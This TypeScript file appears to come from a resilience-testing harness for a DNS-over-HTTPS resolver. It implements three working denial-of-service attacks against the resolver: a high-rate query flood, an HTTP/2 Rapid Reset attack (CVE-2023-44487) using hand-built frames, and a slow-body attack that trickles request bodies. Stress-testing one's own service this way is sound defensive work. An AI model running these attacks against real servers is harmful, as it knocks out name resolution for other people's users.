/** Attacks by DNS over HTTPS. */
import { type ClientHttp2Session, type ClientHttp2Stream, connect } from 'node:http2';
import type { Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { encodeQuery } from '../../deployment/dns-message.js';
import { ATTACKER, POPULAR_ZONE, SERVER } from '../shared/target.js';
import { type Attack, type AttackContext, pace, type NamedAttack, openSocket } from './attack.js';

/** Of HTTP/2 by frames, for what `node:http2` does not send. */
const SETTINGS = 4;

export function openSession(context: AttackContext, source: string, onClose: () => void): Socket {
  context.counts.add('connections');
  const raw = openSocket(context, context.target.httpsPort, source);
  const session = connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  session.on('error', () => session.destroy()).resume();
  session.on('close', () => {
    context.counts.add('connections closed');
    onClose();
  });
  session.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  session.write(frame(SETTINGS, 0, 0, Buffer.alloc(0)));
  return session;
}

/** A frame of HTTP/2 (RFC 9113 §4.1). */
export function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value: string): Buffer =>
  Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

/** The headers of `POST /dns-query`, without compression (RFC 7541 §6.2.2). */
export const POST = Buffer.concat([
  Buffer.from([0x83, 0x87, 0x04]),
  text('/dns-query'),
  Buffer.from([0x01]),
  text(SERVER),
  Buffer.from([0x0f, 0x10]),
  text('application/dns-message'),
]);

const SESSIONS = 20;
const REQUESTS_PER_SECOND = 1_500;
/** Fewer than `CLIENT_TLS_HANDSHAKE_RATE`. */
const RESET_CONNECTIONS_PER_SECOND = 40;
/** As many as come in few reads. */
const RESETS = 600;
const [HEADERS_FRAME, RST_STREAM, END_HEADERS] = [1, 3, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
const SLOW_REQUESTS_PER_SECOND = 300;
const SLOW_BYTE_MS = 400;
const HEADERS = { ':path': '/dns-query', 'content-type': 'application/dns-message' };

/** Requests that are reset at once (CVE-2023-44487), over connections that the resolver closes for it. */
export function resetsFrom(sources: readonly string[]): Attack {
  return async (context) => {
    const requests = Buffer.concat(
      Array.from({ length: RESETS }, (_, i) => [
        frame(HEADERS_FRAME, END_HEADERS, 1 + 2 * i, POST),
        frame(RST_STREAM, 0, 1 + 2 * i, CANCEL),
      ]).flat(),
    );
    await pace(context, RESET_CONNECTIONS_PER_SECOND, (n) => {
      const session = openSession(context, sources[n % sources.length] ?? SERVER, () => undefined);
      session.once('secureConnect', () => context.counts.add('requests', RESETS));
      session.write(requests);
    });
  };
}

/** Makes requests over connections in turn. Those that the resolver closes are opened again. */
async function overSessions(
  context: AttackContext,
  perSecond: number,
  request: (session: ClientHttp2Session, n: number) => ClientHttp2Stream,
): Promise<void> {
  const { counts } = context;
  const sessions: (ClientHttp2Session | null)[] = Array.from({ length: SESSIONS }, () => null);
  await pace(context, perSecond, (n) => {
    const at = n % SESSIONS;
    const session = (sessions[at] ??= open(context, () => (sessions[at] = null)));
    if (session.closed || session.destroyed) return;
    counts.add('requests');
    request(session, n)
      .on('error', () => counts.add('failed'))
      .resume();
  });
}

function open(context: AttackContext, onClose: () => void): ClientHttp2Session {
  const { target, counts } = context;
  counts.add('connections');
  const session = connect(`https://${SERVER}`, {
    createConnection: () =>
      connectTls({
        socket: openSocket(context, target.httpsPort, ATTACKER),
        rejectUnauthorized: false,
        ALPNProtocols: ['h2'],
      }),
  });
  session.on('error', () => session.destroy());
  session.on('close', () => {
    counts.add('connections closed');
    onClose();
  });
  session.on('goaway', onClose);
  return session;
}

export const HTTPS_ATTACKS: readonly NamedAttack[] = [
  {
    name: 'doh-requests',
    description: '1,500 requests a second over 20 HTTP/2 connections',
    run: (context) =>
      overSessions(context, REQUESTS_PER_SECOND, (session, n) => {
        const query = encodeQuery(0, `n${n % 50}.${POPULAR_ZONE}`).toString('base64url');
        const stream = session.request({ ':path': `/dns-query?dns=${query}` });
        stream.on('response', ({ ':status': status }) =>
          context.counts.add(`status ${status ?? 0}`),
        );
        return stream;
      }),
  },
  {
    name: 'doh-resets',
    description: '40 HTTP/2 connections a second, each with 600 requests that are reset at once',
    run: resetsFrom([ATTACKER]),
  },
  {
    name: 'doh-slow-bodies',
    description: '300 requests a second whose bodies do not end',
    run: (context) =>
      overSessions(context, SLOW_REQUESTS_PER_SECOND, (session) => {
        const stream = session.request({ ...HEADERS, ':method': 'POST', 'content-length': 4_000 });
        stream.on('response', ({ ':status': status }) =>
          context.counts.add(`status ${status ?? 0}`),
        );
        const timer = setInterval(() => {
          if (context.signal.aborted || stream.destroyed) return clearInterval(timer);
          stream.write('x');
        }, SLOW_BYTE_MS);
        return stream;
      }),
  },
];
